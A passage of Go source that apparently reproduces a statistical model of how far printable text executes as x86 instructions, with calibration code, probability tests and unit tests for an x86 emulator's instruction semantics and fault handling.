	if p.Z >= 1 {
		return nil, errors.New("melmodel: degenerate table (all prefixes)")
	}
	p.EPrefixLen = p.Z / (1 - p.Z)

	// I/O mass.
	for _, b := range textins.IOChars {
		p.PIO += freq[b]
	}

	// Expected actual-instruction length and memory-access probability,
	// conditioned on the first non-prefix byte, over the real decoder.
	var lenSum, memSum, weightSum float64
	for first := 0; first < 256; first++ {
		fb := byte(first)
		if freq[first] == 0 || textins.IsPrefixChar(fb) {
			continue
		}
		w := freq[first] / (1 - p.Z)
		el, pm := expectedShape(fb, freq)
		lenSum += w * el
		memSum += w * pm
		weightSum += w
	}
	if weightSum == 0 {
		return nil, errors.New("melmodel: frequency table has no opcode bytes")
	}
	// Normalize in case the table has mass on prefix bytes only partially
	// accounted (guard against numeric drift).
	p.EActualLen = lenSum / weightSum
	p.PMemAccess = memSum / weightSum
	p.EInstrLen = p.EPrefixLen + p.EActualLen

	// Wrong-segment component: P(prefix chain contains a faulting
	// override) × P(memory access). Chain length is geometric in z; each
	// prefix char is a faulting override with probability w/z.
	// Iterate bytes in order so the summation is deterministic (map
	// iteration order would perturb the last ulp between calls).
	var wrongMass float64
	for b := 0; b < 256; b++ {
		if seg, ok := textins.SegOverrideChars[byte(b)]; ok && textins.WrongSegDefault[seg] {
			wrongMass += freq[b]
		}
	}
	pChainHasWrong := 0.0
	if p.Z > 0 && wrongMass > 0 {
		okFrac := (p.Z - wrongMass) / p.Z // chance a prefix char is harmless
		zk, okk := 1.0, 1.0
		for k := 1; k <= 64; k++ {
			zk *= p.Z
			okk *= okFrac
			pChainHasWrong += zk * (1 - p.Z) * (1 - okk)
		}
	}
	p.PWrongSeg = pChainHasWrong * p.PMemAccess

	p.P = p.PIO + p.PWrongSeg
	if p.P <= 0 || p.P >= 1 {
		return nil, errors.New("melmodel: estimated p out of range; table unsuitable")
	}
	return &Calibration{base: p}, nil
}

// Params derives the full parameter set for an input of c characters:
// the precomputed frequency-dependent parameters plus C and the
// instruction-count estimate N.
func (cal *Calibration) Params(c int) (Params, error) {
	if c <= 0 {
		return Params{}, errors.New("melmodel: input size must be positive")
	}
	p := cal.base
	p.C = c
	p.N = int(math.Round(float64(c) / p.EInstrLen))
	if p.N < 1 {
		p.N = 1
	}
	return p, nil
}

// expectedShape returns, for an instruction whose first (non-prefix)
// byte is fb and whose subsequent bytes follow freq, the expected encoded
// length of the actual instruction and the probability that it accesses
// memory. It enumerates ModRM (and SIB where present) bytes weighted by
// the distribution, using the real decoder for every combination.
func expectedShape(fb byte, freq [256]float64) (expLen, pMem float64) {
	var buf [20]byte
	buf[0] = fb
	for i := 1; i < len(buf); i++ {
		buf[i] = 0x41 // deterministic filler; only (fb, m, s) affect length
	}

	base, err := x86.Decode(buf[:], 0)
	if err != nil {
		// Cannot happen with a full buffer, but stay safe: treat as a
		// one-byte instruction.
		return 1, 0
	}
	if !base.HasModRM {
		if base.MemAccess {
			pMem = 1
		}
		return float64(base.Len), pMem
	}

	var lenSum, memSum, wSum float64
	for m := 0; m < 256; m++ {
		if freq[m] == 0 {
			continue
		}
		buf[1] = byte(m)
		inst, err := x86.Decode(buf[:], 0)
		if err != nil {
			continue
		}
		w := freq[m]
		if inst.HasSIB {
			// The SIB byte value can add a disp32 (base=101, mod=0);
			// average over it too.
			var sLen, sMem, sW float64
			for sb := 0; sb < 256; sb++ {
				if freq[sb] == 0 {
					continue
				}
				buf[2] = byte(sb)
				inst2, err := x86.Decode(buf[:], 0)
				if err != nil {
					continue
				}
				sLen += freq[sb] * float64(inst2.Len)
				if inst2.MemAccess {
					sMem += freq[sb]
				}
				sW += freq[sb]
			}
			buf[2] = 0x41
			if sW > 0 {
				lenSum += w * sLen / sW
				memSum += w * sMem / sW
				wSum += w
			}
			continue
		}
		lenSum += w * float64(inst.Len)
		if inst.MemAccess {
			memSum += w
		}
		wSum += w
	}
	if wSum == 0 {
		return float64(base.Len), 0
	}
	return lenSum / wSum, memSum / wSum
}

package melmodel

import (
	"math"
	"testing"
)

func TestExactCDFBoundaries(t *testing.T) {
	if _, err := ExactCDF(5, 0, 0.5); err == nil {
		t.Error("n=0 should fail")
	}
	if _, err := ExactCDF(5, 10, 0); err == nil {
		t.Error("p=0 should fail")
	}
	if c, _ := ExactCDF(-1, 10, 0.5); c != 0 {
		t.Errorf("CDF(-1) = %v", c)
	}
	if c, _ := ExactCDF(10, 10, 0.5); c != 1 {
		t.Errorf("CDF(n) = %v, want 1", c)
	}
}

// TestExactCDFSmallCasesByEnumeration verifies the DP against brute-force
// enumeration of all 2^n outcomes for small n.
func TestExactCDFSmallCasesByEnumeration(t *testing.T) {
	const n = 10
	p := 0.3
	for x := 0; x < n; x++ {
		var want float64
		for mask := 0; mask < 1<<n; mask++ {
			// Compute the paper-convention MEL of this outcome.
			prob := 1.0
			mel, run := 0, 0
			for i := 0; i < n; i++ {
				head := mask>>i&1 == 1
				if head {
					prob *= p
					if run+1 > mel {
						mel = run + 1
					}
					run = 0
				} else {
					prob *= 1 - p
					run++
				}
			}
			if run > mel {
				mel = run
			}
			if mel <= x {
				want += prob
			}
		}
		got, err := ExactCDF(x, n, p)
		if err != nil {
			t.Fatal(err)
		}
		if math.Abs(got-want) > 1e-12 {
			t.Errorf("ExactCDF(%d) = %.15f, enumeration gives %.15f", x, got, want)
		}
	}
}

func TestExactCDFMonotone(t *testing.T) {
	prev := 0.0
	for x := 0; x <= 100; x++ {
		c, err := ExactCDF(x, 1540, 0.227)
		if err != nil {
			t.Fatal(err)
		}
		if c < prev-1e-12 {
			t.Fatalf("not monotone at %d", x)
		}
		prev = c
	}
	if prev < 0.999999 {
		t.Errorf("CDF at 100 = %v", prev)
	}
}

// TestApproximationGapSmall quantifies the Section 3.1 independence
// approximation: the paper's closed form stays within ~1.5% total
// variation of the exact law at every parameter set Figure 1 plots.
func TestApproximationGapSmall(t *testing.T) {
	cases := []struct {
		n int
		p float64
	}{
		{1000, 0.175}, {1500, 0.125}, {1500, 0.300}, {1540, 0.227},
	}
	for _, c := range cases {
		gap, err := ApproximationGap(c.n, c.p)
		if err != nil {
			t.Fatal(err)
		}
		if gap > 0.015 {
			t.Errorf("n=%d p=%v: TV gap %v between paper formula and exact law", c.n, c.p, gap)
		}
		t.Logf("n=%d p=%v: paper-vs-exact TV = %.5f", c.n, c.p, gap)
	}
}

// TestExactThresholdNearPaperFormula: the model-derived τ and the exact
// τ agree to within a couple of instructions at the operating point.
func TestExactThresholdNearPaperFormula(t *testing.T) {
	exact, err := ExactThreshold(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	approx, err := Threshold(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(float64(exact)-approx) > 2 {
		t.Errorf("exact τ = %d vs formula %v", exact, approx)
	}
	if _, err := ExactThreshold(0, 100, 0.2); err == nil {
		t.Error("alpha=0 should fail")
	}
}

func TestExactPMFSumsToOne(t *testing.T) {
	n, p := 300, 0.2
	var sum float64
	for x := 0; x <= n; x++ {
		v, err := ExactPMF(x, n, p)
		if err != nil {
			t.Fatal(err)
		}
		if v < -1e-12 {
			t.Fatalf("negative mass at %d: %v", x, v)
		}
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("exact PMF sums to %v", sum)
	}
}

package emu

import (
	"testing"

	"repro/internal/stats"
	"repro/internal/x86"
)

// run16 loads and runs code with a 16-bit-heavy focus; shares runCode.

func TestOperandSize16(t *testing.T) {
	code := []byte{
		0xB8, 0xFF, 0xFF, 0xFF, 0xFF, // mov eax,-1
		0x66, 0xB8, 0x34, 0x12, // mov ax,0x1234 (upper half preserved)
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0xFFFF1234 {
		t.Errorf("eax = %#x, want 0xFFFF1234", c.Regs[x86.EAX])
	}
}

func TestAdcSbb(t *testing.T) {
	code := []byte{
		0xB8, 0xFF, 0xFF, 0xFF, 0xFF, // mov eax,0xFFFFFFFF
		0x83, 0xC0, 0x01, // add eax,1 → 0, CF=1
		0xBB, 0x00, 0x00, 0x00, 0x00, // mov ebx,0
		0x83, 0xD3, 0x00, // adc ebx,0 → ebx=1 (carry in)
		0xB9, 0x00, 0x00, 0x00, 0x00, // mov ecx,0
		0x83, 0xE9, 0x01, // sub ecx,1 → CF=1 (borrow)
		0xBA, 0x05, 0x00, 0x00, 0x00, // mov edx,5
		0x83, 0xDA, 0x01, // sbb edx,1 → edx = 5-1-1 = 3
		0xF4,
	}
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EBX] != 1 {
		t.Errorf("adc: ebx = %d, want 1", c.Regs[x86.EBX])
	}
	if c.Regs[x86.EDX] != 3 {
		t.Errorf("sbb: edx = %d, want 3", c.Regs[x86.EDX])
	}
}

func TestRotatesThroughCarry(t *testing.T) {
	code := []byte{
		0xF8,                         // clc
		0xB8, 0x01, 0x00, 0x00, 0x80, // mov eax,0x80000001
		0xD1, 0xD0, // rcl eax,1 → 0x00000002, CF=1
		0xD1, 0xD8, // rcr eax,1 → 0x80000001, CF=0
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x80000001 {
		t.Errorf("rcl/rcr round trip: eax = %#x", c.Regs[x86.EAX])
	}
	if c.CF {
		t.Error("CF should be clear after the round trip")
	}
}

func TestRolRor(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x80, // mov eax,0x80000001
		0xC1, 0xC0, 0x04, // rol eax,4 → 0x00000018
		0xC1, 0xC8, 0x04, // ror eax,4 → 0x80000001
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x80000001 {
		t.Errorf("rol/ror round trip: eax = %#x", c.Regs[x86.EAX])
	}
}

func TestMulDivRoundTrip(t *testing.T) {
	code := []byte{
		0xB8, 0x39, 0x30, 0x00, 0x00, // mov eax,12345
		0xBB, 0xA5, 0x00, 0x00, 0x00, // mov ebx,165
		0xF7, 0xE3, // mul ebx → edx:eax = 2036925
		0xF7, 0xF3, // div ebx → eax = 12345, edx = 0
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 12345 || c.Regs[x86.EDX] != 0 {
		t.Errorf("mul/div round trip: eax=%d edx=%d", c.Regs[x86.EAX], c.Regs[x86.EDX])
	}
}

func TestIdivSigned(t *testing.T) {
	code := []byte{
		0xB8, 0xF9, 0xFF, 0xFF, 0xFF, // mov eax,-7
		0x99,                         // cdq
		0xBB, 0x02, 0x00, 0x00, 0x00, // mov ebx,2
		0xF7, 0xFB, // idiv ebx → eax=-3, edx=-1
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if int32(c.Regs[x86.EAX]) != -3 || int32(c.Regs[x86.EDX]) != -1 {
		t.Errorf("idiv: q=%d r=%d, want -3, -1", int32(c.Regs[x86.EAX]), int32(c.Regs[x86.EDX]))
	}
}

func TestNotNeg(t *testing.T) {
	code := []byte{
		0xB8, 0x0F, 0x00, 0x00, 0x00, // mov eax,0xF
		0xF7, 0xD0, // not eax → 0xFFFFFFF0
		0xBB, 0x05, 0x00, 0x00, 0x00, // mov ebx,5
		0xF7, 0xDB, // neg ebx → -5
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0xFFFFFFF0 {
		t.Errorf("not: eax = %#x", c.Regs[x86.EAX])
	}
	if int32(c.Regs[x86.EBX]) != -5 || !c.CF {
		t.Errorf("neg: ebx = %d cf=%v", int32(c.Regs[x86.EBX]), c.CF)
	}
}

func TestEnterLeave(t *testing.T) {
	code := []byte{
		0xC8, 0x20, 0x00, 0x00, // enter 0x20,0
		0x89, 0xE8, // mov eax,ebp
		0xC9, // leave
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	wantESP := c.Mem.Base() + uint32(c.Mem.Size())
	if c.Regs[x86.ESP] != wantESP {
		t.Errorf("esp after enter/leave = %#x, want %#x", c.Regs[x86.ESP], wantESP)
	}
}

func TestPushfPopfRoundTrip(t *testing.T) {
	code := []byte{
		0xF9, // stc
		0x9C, // pushf
		0xF8, // clc
		0x9D, // popf → CF restored
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if !c.CF {
		t.Error("CF not restored by popf")
	}
}

func TestSahfLahf(t *testing.T) {
	code := []byte{
		0x31, 0xC0, // xor eax,eax → ZF=1 PF=1
		0x9F, // lahf → AH = flags
		0xF9, // stc
		0x9E, // sahf → restores CF=0 from AH
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.CF {
		t.Error("sahf should have cleared CF")
	}
	if !c.ZF {
		t.Error("sahf should have preserved ZF=1")
	}
}

func TestSalc(t *testing.T) {
	code := []byte{
		0xF9, // stc
		0xD6, // salc → al = 0xFF
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX]&0xFF != 0xFF {
		t.Errorf("salc: al = %#x", c.Regs[x86.EAX]&0xFF)
	}
}

func TestXlatTranslation(t *testing.T) {
	code := []byte{
		0x54, 0x5B, // push esp; pop ebx
		0x83, 0xEB, 0x10, // sub ebx,16
		0xC6, 0x43, 0x05, 0x77, // mov byte [ebx+5], 0x77
		0xB0, 0x05, // mov al,5
		0xD7, // xlat → al = [ebx+5] = 0x77
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX]&0xFF != 0x77 {
		t.Errorf("xlat: al = %#x", c.Regs[x86.EAX]&0xFF)
	}
}

func TestStringOpsBackward(t *testing.T) {
	code := []byte{
		0x54, 0x5F, // push esp; pop edi
		0x83, 0xEF, 0x04, // sub edi,4 (last dword below old esp)
		0xB0, 0x5A, // mov al,'Z'
		0xFD,                         // std (DF=1: backward)
		0xB9, 0x04, 0x00, 0x00, 0x00, // mov ecx,4
		0xF3, 0xAA, // rep stosb going down
		0xFC, // cld
		0xF4,
	}
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	// edi starts at top-4 and walks down: bytes top-4..top-7 are filled.
	top := c.Mem.Base() + uint32(c.Mem.Size())
	for i := uint32(4); i <= 7; i++ {
		if v, _ := c.Mem.readU8(top - i); v != 'Z' {
			t.Fatalf("byte at top-%d = %#x", i, v)
		}
	}
}

func TestRepeCmpsb(t *testing.T) {
	code := []byte{
		0x54, 0x5E, // esi = esp
		0x83, 0xEE, 0x20, // esi -= 32
		0x54, 0x5F, // edi = esp
		0x83, 0xEF, 0x10, // edi -= 16
		// Write "AB" at esi and "AC" at edi.
		0xC6, 0x06, 'A', 0xC6, 0x46, 0x01, 'B',
		0xC6, 0x07, 'A', 0xC6, 0x47, 0x01, 'C',
		0xB9, 0x02, 0x00, 0x00, 0x00, // ecx=2
		0xF3, 0xA6, // repe cmpsb → stops after mismatch at byte 2
		0xF4,
	}
	c, out := runCode(t, code, 30)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.ZF {
		t.Error("ZF should be clear after mismatch")
	}
	if c.Regs[x86.ECX] != 0 {
		t.Errorf("ecx = %d after repe cmpsb of 2 bytes", c.Regs[x86.ECX])
	}
}

func TestScasb(t *testing.T) {
	code := []byte{
		0x54, 0x5F, // edi = esp
		0x83, 0xEF, 0x08, // edi -= 8
		0xC6, 0x47, 0x02, 0x58, // mov byte [edi+2],'X'
		0xB0, 0x58, // mov al,'X'
		0xB9, 0x08, 0x00, 0x00, 0x00, // ecx=8
		0xF2, 0xAE, // repne scasb → stops when found
		0xF4,
	}
	c, out := runCode(t, code, 30)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if !c.ZF {
		t.Error("ZF should be set when scasb finds the byte")
	}
	if c.Regs[x86.ECX] != 5 {
		t.Errorf("ecx = %d, want 5 (stopped at third byte)", c.Regs[x86.ECX])
	}
}

func TestBCDOps(t *testing.T) {
	// aam: al=123 → ah=12, al=3.
	code := []byte{0xB0, 0x7B, 0xD4, 0x0A, 0xF4}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.reg8(4) != 12 || c.reg8(0) != 3 {
		t.Errorf("aam: ah=%d al=%d", c.reg8(4), c.reg8(0))
	}
	// aad: ah=12, al=3 → al=123, ah=0.
	code = []byte{0xB4, 0x0C, 0xB0, 0x03, 0xD5, 0x0A, 0xF4}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.reg8(0) != 123 || c.reg8(4) != 0 {
		t.Errorf("aad: al=%d ah=%d", c.reg8(0), c.reg8(4))
	}
	// aam 0 faults like a division by zero.
	code = []byte{0xB0, 0x7B, 0xD4, 0x00}
	_, out = runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultDivide {
		t.Errorf("aam 0: %v %+v", out.Kind, out.Fault)
	}
}

func TestDaaAaa(t *testing.T) {
	// daa: al=0x0F after add → adjusts to 0x15 (BCD 15).
	code := []byte{
		0xB0, 0x09, // mov al,9
		0x04, 0x06, // add al,6 → 0x0F, AF=1
		0x27, // daa → 0x15
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.reg8(0) != 0x15 {
		t.Errorf("daa: al=%#x, want 0x15", c.reg8(0))
	}
	// aaa on al=0x0F → al=5, ah+1, CF set.
	code = []byte{0x31, 0xC0, 0xB0, 0x0F, 0x37, 0xF4}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.reg8(0) != 5 || c.reg8(4) != 1 || !c.CF {
		t.Errorf("aaa: al=%d ah=%d cf=%v", c.reg8(0), c.reg8(4), c.CF)
	}
}

func TestBoundInRange(t *testing.T) {
	code := []byte{
		0x54, 0x59, // ecx = esp
		0x83, 0xE9, 0x10, // ecx -= 16
		0xC7, 0x01, 0x00, 0x00, 0x00, 0x00, // [ecx]   = 0
		0xC7, 0x41, 0x04, 0x64, 0x00, 0x00, 0x00, // [ecx+4] = 100
		0xB8, 0x32, 0x00, 0x00, 0x00, // eax = 50
		0x62, 0x01, // bound eax,[ecx] — in range, no fault
		0xF4,
	}
	_, out := runCode(t, code, 20)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("in-range bound should continue to hlt: %v %+v", out.Kind, out.Fault)
	}
}

func TestArpl(t *testing.T) {
	// arpl Ew,Gw: ModRM 0xD8 = mod 3, reg ebx (source), rm eax (dest).
	code := []byte{
		0xB8, 0x03, 0x00, 0x00, 0x00, // eax = RPL 3 (dest)
		0xBB, 0x01, 0x00, 0x00, 0x00, // ebx = RPL 1 (src)
		0x63, 0xD8, // arpl ax, bx
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	// dest RPL (3) >= src RPL (1): ZF clear, no change.
	if c.ZF || c.Regs[x86.EAX] != 3 {
		t.Errorf("arpl no-adjust: zf=%v eax=%d", c.ZF, c.Regs[x86.EAX])
	}
	// Reversed: dest RPL 1 < src RPL 3 → adjusted to 3, ZF set.
	code = []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00,
		0xBB, 0x03, 0x00, 0x00, 0x00,
		0x63, 0xD8,
		0xF4,
	}
	c, out = runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if !c.ZF || c.Regs[x86.EAX]&3 != 3 {
		t.Errorf("arpl adjust: zf=%v eax=%d", c.ZF, c.Regs[x86.EAX])
	}
}

func TestCmovccSetcc(t *testing.T) {
	code := []byte{
		0xB8, 0x01, 0x00, 0x00, 0x00, // eax=1
		0x83, 0xF8, 0x01, // cmp eax,1 → ZF
		0xB9, 0x63, 0x00, 0x00, 0x00, // ecx=99
		0xBB, 0x07, 0x00, 0x00, 0x00, // ebx=7
		0x0F, 0x44, 0xCB, // cmove ecx, ebx → taken (ZF)
		0x0F, 0x94, 0xC2, // sete dl → 1
		0x0F, 0x95, 0xC6, // setne dh → 0
		0xF4,
	}
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.ECX] != 7 {
		t.Errorf("cmove: ecx = %d", c.Regs[x86.ECX])
	}
	if c.reg8(2) != 1 || c.reg8(6) != 0 {
		t.Errorf("setcc: dl=%d dh=%d", c.reg8(2), c.reg8(6))
	}
}

func TestMovzxMovsxBswap(t *testing.T) {
	code := []byte{
		0xB8, 0x00, 0x00, 0x00, 0x00, // eax=0
		0xB0, 0xFF, // al=0xFF
		0x0F, 0xB6, 0xD8, // movzx ebx, al → 0xFF
		0x0F, 0xBE, 0xC8, // movsx ecx, al → -1
		0xBA, 0x78, 0x56, 0x34, 0x12, // edx=0x12345678
		0x0F, 0xCA, // bswap edx → 0x78563412
		0xF4,
	}
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EBX] != 0xFF {
		t.Errorf("movzx: ebx = %#x", c.Regs[x86.EBX])
	}
	if c.Regs[x86.ECX] != 0xFFFFFFFF {
		t.Errorf("movsx: ecx = %#x", c.Regs[x86.ECX])
	}
	if c.Regs[x86.EDX] != 0x78563412 {
		t.Errorf("bswap: edx = %#x", c.Regs[x86.EDX])
	}
}

func TestMovzx16(t *testing.T) {
	code := []byte{
		0xB8, 0x78, 0x56, 0x34, 0x12, // eax=0x12345678
		0x0F, 0xB7, 0xD8, // movzx ebx, ax → 0x5678
		0x0F, 0xBF, 0xC8, // movsx ecx, ax → sign-extended 0x5678
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EBX] != 0x5678 || c.Regs[x86.ECX] != 0x5678 {
		t.Errorf("16-bit extends: ebx=%#x ecx=%#x", c.Regs[x86.EBX], c.Regs[x86.ECX])
	}
}

func TestCpuidRdtsc(t *testing.T) {
	code := []byte{0x0F, 0xA2, 0x0F, 0x31, 0xF4} // cpuid; rdtsc; hlt
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EDX] != 0 {
		t.Errorf("rdtsc high = %#x", c.Regs[x86.EDX])
	}
}

func TestLoopeLoopne(t *testing.T) {
	code := []byte{
		0xB9, 0x05, 0x00, 0x00, 0x00, // ecx=5
		0x31, 0xC0, // xor eax,eax (ZF=1)
		0x40,       // l: inc eax (ZF=0 afterwards)
		0xE1, 0xFD, // loope l → not taken after first pass (ZF=0)
		0xF4,
	}
	c, out := runCode(t, code, 30)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 1 {
		t.Errorf("loope: eax = %d, want 1", c.Regs[x86.EAX])
	}
}

func TestJecxz(t *testing.T) {
	code := []byte{
		0x31, 0xC9, // xor ecx,ecx
		0xE3, 0x02, // jecxz +2 → taken
		0xF4, 0xF4, // skipped
		0xB8, 0x2A, 0x00, 0x00, 0x00, // eax=42
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault || c.Regs[x86.EAX] != 42 {
		t.Fatalf("jecxz: eax=%d stop=%v", c.Regs[x86.EAX], out.Kind)
	}
}

func TestIndirectCallAndJmp(t *testing.T) {
	code := []byte{
		0x54, 0x58, // eax = esp
		// compute target = eip_base + 12 using lea-style arithmetic is
		// complex; instead store a function pointer on the stack.
		0xB8, 0x00, 0x00, 0x00, 0x00, // placeholder mov eax, target
		0xFF, 0xD0, // call eax
		0xF4,
		0xBB, 0x2A, 0x00, 0x00, 0x00, // target: mov ebx,42
		0xC3, // ret
	}
	// Patch the mov eax, imm32 with the real target address.
	target := uint32(DefaultBase) + 0x1000 + 10
	code[3] = byte(target)
	code[4] = byte(target >> 8)
	code[5] = byte(target >> 16)
	code[6] = byte(target >> 24)
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("stop %v %+v", out.Kind, out.Fault)
	}
	if c.Regs[x86.EBX] != 42 {
		t.Errorf("indirect call: ebx = %d", c.Regs[x86.EBX])
	}
}

func TestXchgMem(t *testing.T) {
	code := []byte{
		0x54, 0x59, // ecx = esp
		0x83, 0xE9, 0x08, // ecx -= 8
		0xC7, 0x01, 0x11, 0x00, 0x00, 0x00, // [ecx] = 0x11
		0xB8, 0x22, 0x00, 0x00, 0x00, // eax = 0x22
		0x87, 0x01, // xchg [ecx], eax
		0x8B, 0x19, // mov ebx, [ecx]
		0xF4,
	}
	c, out := runCode(t, code, 20)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 0x11 || c.Regs[x86.EBX] != 0x22 {
		t.Errorf("xchg mem: eax=%#x ebx=%#x", c.Regs[x86.EAX], c.Regs[x86.EBX])
	}
}

func TestFarTransfersFault(t *testing.T) {
	for _, code := range [][]byte{
		{0x9A, 0x00, 0x00, 0x00, 0x00, 0x08, 0x00}, // callf
		{0xEA, 0x00, 0x00, 0x00, 0x00, 0x08, 0x00}, // jmpf
		{0xCB}, // retf
		{0xCF}, // iret
	} {
		_, out := runCode(t, code, 10)
		if out.Kind != StopFault || out.Fault.Kind != FaultSegment {
			t.Errorf("far transfer % x: %v %+v", code, out.Kind, out.Fault)
		}
	}
}

func TestSegmentRegisterMoves(t *testing.T) {
	// mov ax, ds (8C) writes a flat selector; mov ds, ax (8E) with a
	// flat selector continues; with garbage it faults.
	code := []byte{
		0x66, 0x8C, 0xD8, // mov ax, ds
		0x8E, 0xD8, // mov ds, eax (selector 0x2B: fine)
		0xF4,
	}
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultPrivileged {
		t.Fatalf("flat selector reload should reach hlt: %v %+v", out.Kind, out.Fault)
	}
	code = []byte{
		0xB8, 0x78, 0x56, 0x00, 0x00, // eax = junk selector
		0x8E, 0xD8, // mov ds, ax → fault
	}
	_, out = runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultSegment {
		t.Fatalf("junk selector: %v %+v", out.Kind, out.Fault)
	}
}

func TestSegmentPopFault(t *testing.T) {
	code := []byte{
		0x68, 0x78, 0x56, 0x00, 0x00, // push junk
		0x1F, // pop ds → fault
	}
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultSegment {
		t.Fatalf("pop ds junk: %v %+v", out.Kind, out.Fault)
	}
}

func TestFPUFaultsUnsupported(t *testing.T) {
	code := []byte{0xD9, 0xC0} // fld st0
	_, out := runCode(t, code, 10)
	if out.Kind != StopFault || out.Fault.Kind != FaultUnsupported {
		t.Fatalf("fpu: %v %+v", out.Kind, out.Fault)
	}
}

// TestRandomTextStreamsNeverPanic fuzzes the emulator with random text
// payloads: every run must end in a defined stop reason within budget.
func TestRandomTextStreamsNeverPanic(t *testing.T) {
	rng := stats.NewRNG(99)
	for trial := 0; trial < 300; trial++ {
		code := make([]byte, 256)
		for i := range code {
			code[i] = byte(0x20 + rng.Intn(0x5F))
		}
		_, out := runCode(t, code, 10000)
		switch out.Kind {
		case StopFault, StopExit, StopExecve, StopMaxSteps:
		default:
			t.Fatalf("trial %d: undefined stop %v", trial, out.Kind)
		}
	}
}

// TestRandomBinaryStreamsNeverPanic does the same with arbitrary bytes.
func TestRandomBinaryStreamsNeverPanic(t *testing.T) {
	rng := stats.NewRNG(123)
	for trial := 0; trial < 300; trial++ {
		code := make([]byte, 256)
		for i := range code {
			code[i] = rng.Byte()
		}
		_, out := runCode(t, code, 10000)
		if out.Steps > 10000 {
			t.Fatalf("trial %d: step budget exceeded: %d", trial, out.Steps)
		}
	}
}

func TestXadd(t *testing.T) {
	code := []byte{
		0xB8, 0x05, 0x00, 0x00, 0x00, // eax=5
		0xBB, 0x03, 0x00, 0x00, 0x00, // ebx=3
		0x0F, 0xC1, 0xD8, // xadd eax, ebx → eax=8 ebx=5
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
		t.Fatalf("stop %v", out.Kind)
	}
	if c.Regs[x86.EAX] != 8 || c.Regs[x86.EBX] != 5 {
		t.Errorf("xadd: eax=%d ebx=%d", c.Regs[x86.EAX], c.Regs[x86.EBX])
	}
}

func TestCmpxchg(t *testing.T) {
	// Success case: eax == dst.
	code := []byte{
		0xB8, 0x07, 0x00, 0x00, 0x00, // eax=7
		0xBB, 0x07, 0x00, 0x00, 0x00, // ebx=7 (dst)
		0xB9, 0x2A, 0x00, 0x00, 0x00, // ecx=42 (new)
		0x0F, 0xB1, 0xCB, // cmpxchg ebx, ecx
		0xF4,
	}
	c, out := runCode(t, code, 10)
	if out.Kind != StopFault {
